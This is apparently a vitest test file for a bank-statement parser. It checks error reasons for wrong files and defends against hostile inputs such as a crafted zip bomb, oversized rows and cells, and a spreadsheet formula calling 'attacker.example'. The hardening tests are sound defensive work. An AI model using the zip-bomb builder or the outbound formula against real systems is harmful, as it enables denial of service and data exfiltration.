import { deflateRawSync } from 'node:zlib';
import { utils, write } from '@e965/xlsx';
import { describe, expect, test } from 'vitest';
import { parseStatement } from './parse-statement.ts';
import { readStatementFile } from './read-statement.ts';

const HEADER = 'Date,Narration,Credit';
const ROW = ['21/11/2026', 'ASHA 632514407719', 5];

function problemOf(bytes: Buffer | string): unknown {
  const result = parseStatement({ bytes: Buffer.from(bytes), remembered: [], described: null });
  return result.outcome === 'unreadable' ? result.problem.reason : result.outcome;
}

/** With the processor time that the reader took, which other work on the machine does not lengthen as it does the clock's. */
function timedProblemOf(bytes: Buffer | string): { problem: unknown; cpuMs: number } {
  const before = process.cpuUsage();
  const problem = problemOf(bytes);
  const { user, system } = process.cpuUsage(before);
  return { problem, cpuMs: (user + system) / 1_000 };
}

function workbook(rows: unknown[][], bookType: 'xlsx' | 'biff8' = 'xlsx'): Buffer {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet(rows), 'Sheet');
  return Buffer.from(write(book, { type: 'buffer', bookType, compression: true }) as Uint8Array);
}

interface Claims {
  readonly bytes?: number;
  readonly method?: number;
  readonly parts?: number;
}

/** A ZIP of one deflated part, with what its directory claims about it. */
function zipOf(name: string, content: Buffer, claims: Claims = {}): Buffer {
  const { bytes = content.length, method = 8, parts = 1 } = claims;
  const packed = deflateRawSync(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(8, 8);
  local.writeUInt16LE(name.length, 26);
  const entry = Buffer.alloc(46);
  entry.writeUInt32LE(0x02014b50, 0);
  entry.writeUInt16LE(method, 10);
  entry.writeUInt32LE(packed.length, 20);
  entry.writeUInt32LE(bytes, 24);
  entry.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(parts, 10);
  end.writeUInt32LE(30 + name.length + packed.length, 16);
  return Buffer.concat([local, Buffer.from(name), packed, entry, Buffer.from(name), end]);
}

describe('a wrong file is explained', () => {
  test.each([
    ['an empty file', '', 'statement-empty'],
    ['blank lines', ' \n\n', 'statement-empty'],
    ['a PDF', '%PDF-1.7\n…', 'statement-pdf'],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47]), 'statement-picture'],
    ['a ZIP archive', zipOf('statement.csv', Buffer.from('a')), 'statement-archive'],
    ['a program', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0]), 'statement-binary'],
    ['a login page', '<!doctype html><html><body><form>Log in</form></body></html>', 'statement-web-page'],
    ['a letter', 'Dear customer,\nyour statement is attached', 'no-transactions'],
    ['a price list', 'Product,Price\nCoin,5000.00', 'no-transactions'],
    ['a table with other words', 'Tag,Wer,Wieviel\n21/11/2026,ASHA,5.00', 'unknown layout'],
    ['an impossible date', `${HEADER}\n31/02/2026,ASHA,5`, 'date-unreadable'],
    ['an American date', `${HEADER}\n11/21/2026,ASHA,5`, 'date-unreadable'],
    ['words for an amount', `${HEADER}\n21/11/2026,ASHA,five`, 'amount-unreadable'],
    ['a rounded amount', `${HEADER}\n21/11/2026,ASHA,1.28E+05`, 'amount-unreadable'],
    ['fractions of a paisa', `${HEADER}\n21/11/2026,ASHA,5.125`, 'amount-unreadable'],
    ['an impossible amount', `${HEADER}\n21/11/2026,ASHA,${'9'.repeat(20)}`, 'amount-impossible'],
    ['a rounded reference', 'Date,Ref No,Credit\n21/11/2026,6.32514E+11,5', 'reference-rounded'],
    ['a cut spreadsheet', workbook([ROW]).subarray(0, 300), 'statement-archive'],
    ['a damaged spreadsheet', workbook([ROW], 'biff8').fill(7, 600, 2_000), 'statement-damaged'],
  ])('%s', (_what, bytes, reason) => {
    expect(problemOf(Buffer.from(bytes))).toBe(reason);
  });
});

describe('a hostile file', () => {
  test('that unpacks to more than it may is refused, whatever size it claims', () => {
    const zeros = Buffer.alloc(90 * 1024 * 1024);
    for (const archive of [zipOf('xl/workbook.xml', zeros), zipOf('xl/workbook.xml', zeros, { bytes: 100 })]) {
      const { problem, cpuMs } = timedProblemOf(archive);
      expect(problem).toBe('statement-unpacked');
      expect(cpuMs).toBeLessThan(1_000);
    }
    expect(problemOf(zipOf('xl/workbook.xml', zeros, { bytes: 100, method: 0 }))).toBe('statement-unpacked');
    expect(problemOf(zipOf('xl/workbook.xml', zeros, { bytes: 100, parts: 0 }))).toBe('statement-damaged');
  });

  test('with 100,000 rows is refused as text, page and spreadsheet', () => {
    const rows = Array.from({ length: 100_000 }, () => '21/11/2026,ASHA,5');
    expect(problemOf([HEADER, ...rows].join('\n'))).toBe('statement-too-many-rows');
    const page = `<table>${'<tr><td>21/11/2026<td>ASHA<td>5'.repeat(100_000)}</table>`;
    expect(problemOf(page)).toBe('statement-too-many-rows');
    const cells = Array.from({ length: 20_100 }, () => ROW);
    expect(problemOf(workbook([HEADER.split(','), ...cells]))).toBe('statement-too-many-rows');
  });

  test('with formulas yields their stored values and evaluates nothing', () => {
    const sheet = utils.aoa_to_sheet([HEADER.split(','), ROW, ['22/11/2026', '=1+1', 6]]);
    sheet.C2 = { t: 'n', v: 5, f: 'WEBSERVICE("http://attacker.example")' };
    const book = utils.book_new();
    utils.book_append_sheet(book, sheet, 'Sheet');
    const bytes = Buffer.from(write(book, { type: 'buffer', bookType: 'xlsx' }) as Uint8Array);
    const read = parseStatement({ bytes, remembered: [], described: null });
    expect(read).toMatchObject({ statement: { credits: [{ amountPaise: 5_00 }, { narration: '=1+1' }] } });
  });

  test('with huge cells, endless columns and a single line of 8 MB is read or refused within a second', () => {
    const wide = Array.from({ length: 5_000 }, (_, at) => `column ${at}`).join(',');
    const files = [
      `${HEADER}\n21/11/2026,${'A'.repeat(2_000_000)} 632514407719,5`,
      `${HEADER},${wide}\n21/11/2026,ASHA,5`,
      'x'.repeat(8_000_000),
      `${'"'.repeat(4_000_000)},`,
      `<table>${'<td>'.repeat(500_000)}`,
      `<${'a '.repeat(2_000_000)}`,
      `${HEADER}\n21/11/2026,${'TL-26-'.repeat(160)},5`,
      `${HEADER}\n21/11/2026,ASHA,${'9,'.repeat(400)}`,
    ];
    for (const file of files) {
      const { problem, cpuMs } = timedProblemOf(file);
      expect(['read', 'no-transactions', 'amount-unreadable', 'amount-impossible', 'statement-web-page']).toContain(
        problem,
      );
      expect(cpuMs, file.slice(0, 60)).toBeLessThan(1_500);
    }
  });
});

test('a file is read in a worker thread, so that the process goes on serving', async () => {
  const rows = Array.from({ length: 19_000 }, (_, at) => `21/11/2026,UPI-ASHA-${632_514_400_000 + at}-TL26000184,5.00`);
  const bytes = Buffer.from([HEADER, ...rows].join('\n'));
  let longest = 0;
  let last = performance.now();
  const beat = setInterval(() => {
    longest = Math.max(longest, performance.now() - last);
    last = performance.now();
  }, 5);
  const read = await readStatementFile({ bytes, remembered: [], described: null });
  clearInterval(beat);
  expect(read).toMatchObject({ outcome: 'read' });
  expect(read.outcome === 'read' ? read.statement.credits.length : 0).toBe(19_000);
  expect(longest).toBeLessThan(400);
});
